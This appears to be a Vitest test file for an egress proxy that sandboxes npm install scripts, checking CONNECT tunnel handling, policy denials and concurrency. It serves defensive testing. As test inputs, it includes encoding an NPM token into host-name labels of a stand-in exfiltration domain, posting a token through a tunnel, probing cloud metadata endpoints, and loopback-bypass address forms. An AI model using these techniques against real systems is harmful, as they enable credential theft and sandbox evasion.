import { performance } from 'node:perf_hooks'
import { afterEach, describe, expect, it } from 'vitest'
import { PKG, TOKEN, cleanup, closed, openConnect, roundTrip, startEcho, startProxy } from './proxy-helpers.js'

afterEach(cleanup)

describe('egress proxy: CONNECT tunnels', () => {
  it('tunnels an allowed CONNECT and counts raw bytes both ways', async () => {
    const echo = await startEcho()
    const h = await startProxy({ grants: ['127.0.0.1'] })
    const tunnel = await openConnect(h.address, `127.0.0.1:${echo.port}`)
    expect(tunnel.status).toBe(200)
    expect(tunnel.answer).toBe('HTTP/1.1 200 Connection Established\r\n\r\n')
    expect(await roundTrip(tunnel.socket, 'hello tunnel')).toBe('hello tunnel')
    expect(await roundTrip(tunnel.socket, 'x'.repeat(100_000))).toHaveLength(100_000)
    tunnel.socket.end()
    await closed(tunnel.socket)
    await h.proxy.close()
    expect(h.events).toEqual([{
      package: PKG, event: 'postinstall', protocol: 'tcp', host: '127.0.0.1', port: echo.port,
      method: 'CONNECT', bytesOut: 100_012, bytesIn: 100_012, decision: 'allowed',
    }])
    expect(h.findings).toEqual([])
  })

  it('calls a tunnel https when the client opens with a TLS handshake byte', async () => {
    const echo = await startEcho()
    const h = await startProxy({ grants: ['127.0.0.1'] })
    const tunnel = await openConnect(h.address, `127.0.0.1:${echo.port}`)
    await roundTrip(tunnel.socket, '\x16\x03\x01')
    tunnel.socket.end()
    await h.proxy.close()
    expect(h.events[0]).toMatchObject({ protocol: 'https', bytesOut: 3, bytesIn: 3 })
  })

  it('answers a denied CONNECT with 403 and closes it', async () => {
    const echo = await startEcho()
    const h = await startProxy({ grants: ['*.example.test'] })
    const tunnel = await openConnect(h.address, `127.0.0.1:${echo.port}`)
    const reason = 'loopback address 127.0.0.1 is not reachable unless granted by that exact address'
    expect(tunnel.status).toBe(403)
    expect(tunnel.answer).toMatch(new RegExp(`^HTTP/1\\.1 403 Forbidden\\r\\n[\\s\\S]*\\r\\n\\r\\nsafe-install: ${reason}\\n$`))
    await closed(tunnel.socket)
    await h.proxy.close()
    expect(h.events).toEqual([{
      package: PKG, event: 'postinstall', protocol: 'tcp', host: '127.0.0.1', port: echo.port,
      method: 'CONNECT', bytesOut: 0, bytesIn: 0, decision: 'blocked',
    }])
    expect(h.findings).toEqual([{
      rule: 'egress-blocked', severity: 'error', action: 'blocked', package: PKG, event: 'postinstall',
      message: `postinstall of evil-pkg@1.0.0 was refused a connection to 127.0.0.1:${echo.port}: ${reason}.`,
      evidence: {
        host: '127.0.0.1', port: echo.port, protocol: 'tcp', method: 'CONNECT', reason, category: 'loopback',
        fix: `grant it in safe-install.policy.json: "packages": { "evil-pkg": { "network": ["127.0.0.1:${echo.port}"] } }`,
      },
    }])
  })

  it.each(['127.1', '2130706433', '0x7f.0.0.1', '[::1]', '[::ffff:127.0.0.1]', 'localhost.'])('denies CONNECT to %s', async (host) => {
    const echo = await startEcho()
    const h = await startProxy({ grants: ['*.example.test'] })
    expect((await openConnect(h.address, `${host}:${echo.port}`)).status).toBe(403)
    await h.proxy.close()
    expect(h.findings.map((f) => f.rule)).toEqual(['egress-blocked'])
  })

  it('never opens a tunnel to a metadata endpoint, even with a *.internal grant', async () => {
    const h = await startProxy({ grants: ['*.internal'] })
    const byName = await openConnect(h.address, 'metadata.google.internal:443')
    const byAddress = await openConnect(h.address, '[fd00:ec2::254]:80')
    await h.proxy.close()
    expect([byName.status, byAddress.status]).toEqual([403, 403])
    expect(h.findings).toEqual([
      {
        rule: 'metadata-endpoint', severity: 'error', action: 'blocked', package: PKG, event: 'postinstall',
        message: 'postinstall of evil-pkg@1.0.0 tried to reach the cloud metadata endpoint metadata.google.internal:443, where instance credentials live; the connection was refused.',
        evidence: {
          host: 'metadata.google.internal', port: 443, protocol: 'https', method: 'CONNECT',
          reason: 'metadata endpoint metadata.google.internal is never reachable from install scripts',
        },
      },
      {
        rule: 'metadata-endpoint', severity: 'error', action: 'blocked', package: PKG, event: 'postinstall',
        message: 'postinstall of evil-pkg@1.0.0 tried to reach the cloud metadata endpoint [fd00:ec2::254]:80, where instance credentials live; the connection was refused.',
        evidence: {
          host: 'fd00:ec2::254', port: 80, protocol: 'tcp', method: 'CONNECT',
          reason: 'metadata endpoint fd00:ec2::254 is never reachable from install scripts',
        },
      },
    ])
  })

  it.each([
    ['in one label (base64url, lowercased by normalisation)', `${Buffer.from(TOKEN).toString('base64url')}.exfil.test`, '[redacted]'],
    ['split across labels (hex)', `${Buffer.from(TOKEN).toString('hex').slice(0, 40)}.${Buffer.from(TOKEN).toString('hex').slice(40)}.exfil.test`, '[redacted]'],
  ])('refuses a CONNECT whose host name carries a secret %s, and never reports the secret', async (_label, host, shown) => {
    const h = await startProxy({ grants: ['*.exfil.test'] })
    const tunnel = await openConnect(h.address, `${host}:443`)
    await h.proxy.close()
    expect(tunnel.status).toBe(403)
    expect(tunnel.answer).toContain('safe-install: the request carries NPM_TOKEN (in the request line); secrets never leave the sandbox\n')
    expect(h.events).toEqual([{
      package: PKG, event: 'postinstall', protocol: 'https', host: shown, port: 443,
      method: 'CONNECT', bytesOut: 0, bytesIn: 0, decision: 'blocked',
    }])
    expect(h.findings).toEqual([{
      rule: 'secret-exfiltration', severity: 'error', action: 'blocked', package: PKG, event: 'postinstall',
      message: `postinstall of evil-pkg@1.0.0 tried to send NPM_TOKEN to ${shown}:443 (in the request line); the request was refused.`,
      evidence: { host: shown, port: 443, protocol: 'https', method: 'CONNECT', secrets: ['NPM_TOKEN'], where: 'request line' },
    }])
    const text = JSON.stringify([h.events, h.findings])
    for (const label of host.split('.').slice(0, -2)) expect(text).not.toContain(label)
  })

  it('redacts a secret in an invalid host name before shortening it', async () => {
    const h = await startProxy({ grants: ['*.exfil.test'] })
    const hex = Buffer.from(TOKEN).toString('hex')
    const tunnel = await openConnect(h.address, `${'a'.repeat(70)}${hex}.exfil.test:443`)
    await h.proxy.close()
    expect(tunnel.status).toBe(403)
    expect(h.findings.map((f) => f.rule)).toEqual(['egress-blocked', 'secret-exfiltration'])
    expect(h.findings[0]?.evidence['reason']).toBe(`invalid host name "${'a'.repeat(70)}[redacted].exfil.test"`)
    expect(JSON.stringify([h.events, h.findings])).not.toContain(hex.slice(0, 16))
  })

  it('cuts a plain-text tunnel that carries a secret and reports it', async () => {
    const echo = await startEcho()
    const h = await startProxy({ grants: ['127.0.0.1'] })
    const tunnel = await openConnect(h.address, `127.0.0.1:${echo.port}`)
    tunnel.socket.resume()
    tunnel.socket.write(`POST /x HTTP/1.1\r\n\r\ntoken=${TOKEN.slice(0, 10)}`)
    await new Promise((r) => setTimeout(r, 20))
    tunnel.socket.write(TOKEN.slice(10))
    await closed(tunnel.socket)
    await h.proxy.close()
    expect(h.findings).toEqual([{
      rule: 'secret-exfiltration', severity: 'error', action: 'reported', package: PKG, event: 'postinstall',
      message: `postinstall of evil-pkg@1.0.0 sent NPM_TOKEN through a tunnel to 127.0.0.1:${echo.port}; the tunnel was cut, but part of the data may already have left.`,
      evidence: { host: '127.0.0.1', port: echo.port, protocol: 'tcp', method: 'CONNECT', secrets: ['NPM_TOKEN'], where: 'tunnel' },
    }])
    expect(h.events).toMatchObject([{ decision: 'allowed', bytesOut: 'POST /x HTTP/1.1\r\n\r\ntoken='.length + 10 }])
  })

  it('holds 200 tunnels open at once, and all complete', async () => {
    const echo = await startEcho()
    const h = await startProxy({ grants: ['127.0.0.1'] })
    const started = performance.now()
    const tunnels = await Promise.all(Array.from({ length: 200 }, () => openConnect(h.address, `127.0.0.1:${echo.port}`)))
    const opened = performance.now()
    expect(tunnels.every((t) => t.status === 200)).toBe(true)
    const replies = await Promise.all(tunnels.map((t, i) => roundTrip(t.socket, `ping-${String(i).padStart(3, '0')}`)))
    expect(replies).toEqual(tunnels.map((_t, i) => `ping-${String(i).padStart(3, '0')}`))
    for (const t of tunnels) t.socket.end()
    await Promise.all(tunnels.map((t) => closed(t.socket)))
    await h.proxy.close()
    const finished = performance.now()
    if (process.env['EGRESS_BENCH'] !== undefined) {
      console.info(`200 tunnels: opened in ${(opened - started).toFixed(0)} ms, all round trips and closed in ${(finished - started).toFixed(0)} ms`)
    }
    expect(h.events).toHaveLength(200)
    expect(h.events.every((e) => e.decision === 'allowed' && e.bytesOut === 8 && e.bytesIn === 8)).toBe(true)
  })

  it('survives a client that resets an open tunnel', async () => {
    const echo = await startEcho()
    const h = await startProxy({ grants: ['127.0.0.1'], listen: { kind: 'tcp', host: '127.0.0.1', credentials: 'hook:fake-pass' } })
    const auth = `Proxy-Authorization: Basic ${Buffer.from('hook:fake-pass').toString('base64')}\r\n`
    const first = await openConnect(h.address, `127.0.0.1:${echo.port}`, auth)
    await roundTrip(first.socket, 'abc')
    first.socket.resetAndDestroy()
    const second = await openConnect(h.address, `127.0.0.1:${echo.port}`, auth)
    expect(await roundTrip(second.socket, 'still here')).toBe('still here')
    second.socket.end()
    await h.proxy.close()
    expect(h.events).toMatchObject([{ bytesOut: 3, decision: 'allowed' }, { bytesOut: 10, decision: 'allowed' }])
  })
})
